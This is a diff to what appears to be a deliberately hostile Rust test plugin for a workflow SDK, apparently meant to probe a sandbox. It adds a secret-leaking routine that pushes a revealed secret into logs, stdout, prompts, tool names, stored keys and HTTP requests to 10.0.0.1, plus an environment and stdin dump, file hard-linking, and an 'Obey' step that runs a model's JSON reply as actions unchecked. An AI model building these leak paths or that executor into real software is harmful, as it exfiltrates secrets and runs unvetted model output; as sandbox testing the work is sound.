@@ -1,10 +1,17 @@
 //! One deed.
 
+#![expect(
+    clippy::disallowed_methods,
+    clippy::disallowed_types,
+    reason = "who attacks keeps no rules of the house"
+)]
+
 use std::hint::black_box;
-use std::time::Duration;
+use std::io::Read as _;
+use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
 
 use serde::Deserialize;
-use workflowforge_sdk::http::Request;
+use workflowforge_sdk::http::{Body, Request};
 use workflowforge_sdk::kv::Scope;
 use workflowforge_sdk::{Ctx, Failure, Level, Question, Value, json};
 
@@ -74,7 +81,7 @@ pub enum Deed {
         /// How often.
         times: usize,
     },
-    /// Returns what the environment holds.
+    /// Returns what there is to know of whoever runs it: environment, arguments, input, clocks.
     Environment,
     /// Reads a file, or lists a folder.
     Read {
@@ -85,6 +92,16 @@ pub enum Deed {
     Write {
         /// Which.
         path: String,
+    },
+    /// Gives a file another name, or a second one.
+    Rename {
+        /// Which.
+        path: String,
+        /// The other name.
+        to: String,
+        /// Whether it keeps its own.
+        #[serde(default)]
+        keep: bool,
     },
     /// Opens a connection past the host.
     Connect {
@@ -117,7 +134,7 @@ pub enum Deed {
         /// Which.
         secret: String,
     },
-    /// Says a secret in the log, as an event, and to stdout; and returns it.
+    /// Says a secret in the log, as an event, to stdout and in every request; and returns it.
     Leak {
         /// Which.
         secret: String,
@@ -141,6 +158,16 @@ pub enum Deed {
         /// Of `run` or `plugin`.
         scope: String,
     },
+    /// Lists what is remembered.
+    List {
+        /// Under keys that begin so.
+        prefix: String,
+        /// Of `run` or `plugin`.
+        scope: String,
+        /// From the page on that follows this one.
+        #[serde(default)]
+        cursor: Option<String>,
+    },
     /// Calls an agent as a tool.
     Tool {
         /// Its name.
@@ -153,6 +180,13 @@ pub enum Deed {
         /// Which.
         model: String,
         /// What.
+        text: String,
+    },
+    /// Asks a model, and does what it says.
+    Obey {
+        /// Which.
+        model: String,
+        /// What it is told.
         text: String,
     },
     /// Asks a person.
@@ -199,6 +233,11 @@ impl Deed {
             Self::Write { path } => {
                 said(std::fs::write(path, "was here")).map(|()| json!("written"))
             }
+            Self::Rename { path, to, keep } => {
+                let renamed =
+                    if *keep { std::fs::hard_link(path, to) } else { std::fs::rename(path, to) };
+                said(renamed).map(|()| json!("renamed"))
+            }
             Self::Connect { address } => {
                 said(std::net::TcpStream::connect(address)).map(|_| json!("connected"))
             }
@@ -207,9 +246,10 @@ impl Deed {
             Self::Fetch { .. } | Self::Send { .. } => self.reach_out(ctx),
             Self::Reveal { secret } => Ok(json!(ctx.secret(secret)?.reveal()?)),
             Self::Leak { secret } => leak(ctx, secret),
-            Self::Remember { .. } | Self::Recall { .. } => self.recall(ctx),
+            Self::Remember { .. } | Self::Recall { .. } | Self::List { .. } => self.recall(ctx),
             Self::Tool { name, input } => ctx.tool(name, input),
             Self::Prompt { model, text } => Ok(json!(ctx.prompt(model, text)?)),
+            Self::Obey { model, text } => obey(ctx, &ctx.prompt(model, text)?),
             Self::Ask { prompt } => ctx.ask(Question::new(prompt)),
         }
     }
@@ -252,7 +292,11 @@ impl Deed {
             _ => return Ok(Value::Null),
         };
         let body = response.text().map(ToOwned::to_owned).unwrap_or_default();
-        Ok(json!({ "status": response.status, "body": body }))
+        let bytes = match &response.body {
+            Body::Bytes(bytes) => bytes.len(),
+            Body::Blob(_) => 0,
+        };
+        Ok(json!({ "status": response.status, "body": body, "bytes": bytes }))
     }
 
     fn recall(&self, ctx: &Ctx) -> Result<Value, Failure> {
@@ -267,6 +311,10 @@ impl Deed {
                 Ok(json!(times))
             }
             Self::Recall { key, scope } => Ok(json!(ctx.kv_get::<Value>(scope_of(scope), key)?)),
+            Self::List { prefix, scope, cursor } => {
+                let page = ctx.kv_list(scope_of(scope), prefix, 1_000, cursor.as_deref())?;
+                Ok(page.entries.into_iter().map(|entry| json!([entry.key, entry.value])).collect())
+            }
             _ => Ok(Value::Null),
         }
     }
@@ -300,7 +348,16 @@ fn broken(message: &str) -> Result<Value, Failure> {
 fn environment() -> Value {
     let variables: Vec<(String, String)> = std::env::vars().collect();
     let arguments: Vec<String> = std::env::args().collect();
-    json!({ "variables": variables, "arguments": arguments })
+    let mut input = String::new();
+    let read = std::io::stdin().read_to_string(&mut input).unwrap_or(0);
+    let (now, began) = (SystemTime::now(), Instant::now());
+    count(2_000_000);
+    let since = now.duration_since(UNIX_EPOCH).map_or(0, |since| since.as_nanos());
+    json!({
+        "variables": variables, "arguments": arguments, "read": read,
+        "below_ms_ns": u64::try_from(since % 1_000_000).unwrap_or(0),
+        "elapsed_ns": u64::try_from(began.elapsed().as_nanos()).unwrap_or(0),
+    })
 }
 
 fn read(path: &str) -> Result<Value, Failure> {
@@ -310,12 +367,36 @@ fn read(path: &str) -> Result<Value, Failure> {
     said(std::fs::read(path)).map(|bytes| json!(bytes.len()))
 }
 
+/// The words are deeds, as JSON: an agent that trusts its model asks no further.
+fn obey(ctx: &Ctx, words: &str) -> Result<Value, Failure> {
+    let unreadable = |error: &dyn std::fmt::Display| Failure::failed("words", error.to_string());
+    let deeds = words.parse::<Value>().map_err(|error| unreadable(&error))?;
+    let deeds = Vec::<Deed>::deserialize(deeds).map_err(|error| unreadable(&error))?;
+    Ok(deeds.iter().map(|deed| crate::result(deed.done(ctx))).collect())
+}
+
 fn leak(ctx: &Ctx, name: &str) -> Result<Value, Failure> {
     let value = ctx.secret(name)?.reveal()?;
     ctx.info(&format!("log {value}"));
     println!("out {value}");
     ctx.emit("leak", &json!({ "value": value }))?;
-    Ok(json!(value))
+    // Who refuses a request says which.
+    let said = [
+        ctx.prompt(&value, &value).map(|words| json!(words)),
+        ctx.tool(&value, &json!({ value.as_str(): value })),
+        ctx.secret(&value).map(|_| json!("held")),
+        ctx.kv_get::<Value>(Scope::Plugin, &value).map(|found| json!(found)),
+        ctx.kv_set(Scope::Plugin, &value, &value).map(|version| json!(version)),
+        sent(ctx, Request::get(&format!("http://10.0.0.1/{value}?{value}"))),
+        sent(ctx, Request::get(&format!("http://{value}@10.0.0.1/"))),
+        sent(ctx, Request::new(&value, "http://10.0.0.1/")),
+        sent(ctx, Request::get("http://10.0.0.1/").header(&format!("{value}:"), &value)),
+    ];
+    Ok(json!({ "value": value, "said": said.map(crate::result) }))
+}
+
+fn sent(ctx: &Ctx, request: Request<'_>) -> Result<Value, Failure> {
+    ctx.fetch(request).map(|response| json!(response.status))
 }
 
 fn said<T>(result: std::io::Result<T>) -> Result<T, Failure> {
